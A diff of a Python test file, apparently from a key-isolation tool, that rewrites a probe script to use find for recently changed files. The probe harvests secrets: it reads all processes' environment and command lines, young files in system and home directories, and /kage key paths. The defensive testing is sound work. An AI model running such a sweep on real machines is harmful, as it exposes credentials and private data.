@@ -140,22 +140,20 @@ def test_hosts_are_told_apart() -> None:
 
 
 PROBE = """
-import glob, os, socket, time
+import glob, os, socket, subprocess
 found = []
 for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
     try:
         found.append(open(path, "rb").read())
     except OSError:
         pass
-for root in ("/run", "/tmp", "/etc", "/root", "/home", "/dev/shm", os.environ["HOME"]):
-    for at, _, names in os.walk(root):
-        for name in names:
-            try:
-                path = os.path.join(at, name)
-                if time.time() - os.lstat(path).st_mtime < 600:  # the key is young, toolchains are vast
-                    found.append(open(path, "rb").read(1_000_000))
-            except OSError:
-                pass
+roots = ["/run", "/tmp", "/etc", "/root", "/home", "/dev/shm", os.environ["HOME"]]
+young = ["-type", "f", "-mmin", "-10", "-print0"]  # the key is young, toolchains are vast
+for path in subprocess.run(["find", *roots, *young], capture_output=True).stdout.split(b"\\0")[:-1]:
+    try:
+        found.append(open(path, "rb").read(1_000_000))
+    except OSError:
+        pass
 found.append(open("/proc/net/unix", "rb").read())
 for path in ("/kage/keys", "/kage/agents", "/kage/health"):
     try:
